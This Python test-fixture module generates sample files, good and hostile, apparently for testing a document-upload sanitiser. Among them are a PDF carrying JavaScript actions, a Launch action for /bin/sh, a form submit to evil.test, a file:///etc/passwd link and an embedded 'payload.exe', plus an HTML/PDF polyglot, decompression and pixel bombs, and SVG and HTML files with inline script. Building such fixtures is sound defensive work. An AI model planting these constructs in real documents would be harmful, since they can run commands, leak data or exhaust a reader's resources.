"""Real files for tests, good and bad. Every maker returns bytes."""

import io
import struct
import zlib
from functools import cache
from typing import Any

import pikepdf
from fpdf import FPDF
from PIL import Image, PngImagePlugin


@cache
def pdf(pages: int = 3, text: str = "FADE IN:", size: tuple[float, float] = (216, 279)) -> bytes:
    """A PDF with `text` and its number on every page; `size` in millimetres."""
    paper = FPDF(unit="mm", format=size)
    paper.set_font("Courier", size=12)
    for number in range(1, pages + 1):
        paper.add_page()
        paper.multi_cell(0, 6, f"{text}\n\nPage {number}\n" + "She reads the letter again, slower.\n" * 20)
    return bytes(paper.output())


@cache
def heavy_pdf(size: int = 14_000_000) -> bytes:
    """A good PDF of a little more than `size` bytes: its page has a picture that is not packed."""
    book = pikepdf.new()
    page = book.add_blank_page(page_size=(612, 792))
    rows = size // 6000
    image = pikepdf.Stream(
        book, bytes(rows * 6000), Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=2000, Height=rows, BitsPerComponent=8,
        ColorSpace=pikepdf.Name.DeviceRGB,
    )  # fmt: skip
    page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im=image))
    page.Contents = book.make_stream(b"612 0 0 792 0 0 cm /Im Do")
    return _saved(book, compress_streams=False)


@cache
def encrypted_pdf(password: str = "tide") -> bytes:
    """A PDF that asks for a password."""
    return _saved(pikepdf.open(io.BytesIO(pdf(1))), encryption=pikepdf.Encryption(user=password, owner=password))


@cache
def owner_locked_pdf() -> bytes:
    """A PDF that opens without a password, but forbids printing."""
    return _saved(pikepdf.open(io.BytesIO(pdf(2))), encryption=pikepdf.Encryption(user="", owner="boss"))


@cache
def broken_pdf() -> bytes:
    """A PDF cut in the middle."""
    whole = pdf(5)
    return whole[: len(whole) // 2]


def html() -> bytes:
    return b"<!doctype html><html><script>alert(1)</script><p>Not a script.</p></html>"


def pdf_behind_html() -> bytes:
    """A polyglot: a browser sees a page, a lenient reader a PDF."""
    return b"<html><script>alert(1)</script>" + pdf(1)


@cache
def active_pdf() -> bytes:
    """A PDF with everything that acts: JavaScript, OpenAction, AA, Launch, embedded files, RichMedia, XFA, SubmitForm."""
    book = pikepdf.open(io.BytesIO(pdf(2, text="A page that wants to act")))
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('hello')"))
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("/bin/sh"))
    submit = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.test/form"))
    link = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://example.test/film"), Next=launch)
    local = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("file:///etc/passwd"))
    book.attachments["payload.exe"] = b"MZ payload"
    book.Root.OpenAction = book.make_indirect(script)
    book.Root.AA = pikepdf.Dictionary(WC=script)
    book.Root.Names.JavaScript = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("run"), script]))
    field = book.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Tx, T=pikepdf.String("name"),
            V=pikepdf.String("Typed in a form"), DA=pikepdf.String("/Helv 12 Tf 0 g"), Rect=[50, 50, 300, 80], AA=pikepdf.Dictionary(K=script),
        )
    )  # fmt: skip
    helvetica = pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)
    book.Root.AcroForm = pikepdf.Dictionary(
        Fields=[field], XFA=book.make_stream(b"<xdp/>"), DA=pikepdf.String("/Helv 12 Tf 0 g"), NeedAppearances=True,
        DR=pikepdf.Dictionary(Font=pikepdf.Dictionary(Helv=helvetica)),
    )  # fmt: skip

    def annotation(kind: str, **more: Any) -> pikepdf.Object:
        return book.make_indirect(
            pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(f"/{kind}"), Rect=[0, 0, 99, 99], **more)
        )

    first, second = book.pages
    first.AA = pikepdf.Dictionary(O=script)
    first.Annots = pikepdf.Array(
        [
            annotation("Link", A=launch), annotation("Link", A=submit), annotation("Link", A=link), annotation("Link", A=local),
            annotation("Link", A=book.make_indirect(script)), annotation("FileAttachment", FS=pikepdf.Dictionary(F="x")),
            annotation("RichMedia", RichMediaContent=pikepdf.Dictionary()), annotation("Screen", A=launch), field,
        ]
    )  # fmt: skip
    second.Annots = pikepdf.Array([annotation("Link", PA=launch, Dest=pikepdf.Array([first.obj, pikepdf.Name.Fit]))])
    book.docinfo["/Author"] = "C:\\Users\\secret.name"
    with book.open_metadata() as metadata:
        metadata["dc:creator"] = ["secret.name"]
    return _saved(book)


@cache
def unfolding_pdf(side: int = 20_000) -> bytes:
    """A small PDF with a picture that unfolds to `side` squared times three bytes."""
    packer = zlib.compressobj(9)
    packed = b"".join([packer.compress(bytes(3 * side)) for _row in range(side)]) + packer.flush()
    book = pikepdf.new()
    page = book.add_blank_page(page_size=(612, 792))
    image = pikepdf.Stream(
        book, packed, Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=side, Height=side, BitsPerComponent=8,
        ColorSpace=pikepdf.Name.DeviceRGB, Filter=pikepdf.Name.FlateDecode,
    )  # fmt: skip
    page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im=image))
    page.Contents = book.make_stream(b"612 0 0 792 0 0 cm /Im Do")
    return _saved(book)


def _saved(book: pikepdf.Pdf, **options: Any) -> bytes:
    out = io.BytesIO()
    book.save(out, **options)
    return out.getvalue()


def picture(kind: str = "JPEG", size: tuple[int, int] = (1800, 1200), *, note: str = "", **options: Any) -> bytes:
    """A picture of PIL's format `kind`, with a gradient so that encoders have work; `note` goes into its metadata."""
    ramp = Image.linear_gradient("L").resize(size)
    image = Image.merge("RGB", (ramp, ramp.transpose(Image.Transpose.ROTATE_180), ramp))
    if note and kind == "PNG":
        options["pnginfo"] = PngImagePlugin.PngInfo()
        options["pnginfo"].add_text("Comment", note)
    elif note:
        exif = Image.Exif()
        exif[0x010E] = note
        options["exif"] = exif
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def pixel_bomb(side: int = 30_000) -> bytes:
    """A small PNG that says it is `side` by `side` pixels."""
    row = zlib.compress(b"\x00" * 10_000)
    header = struct.pack("!IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", row) + _chunk(b"IEND", b"")


def _chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack("!I", len(body)) + name + body + struct.pack("!I", zlib.crc32(name + body))


def svg() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def archive() -> bytes:
    return b"PK\x03\x04" + bytes(60)
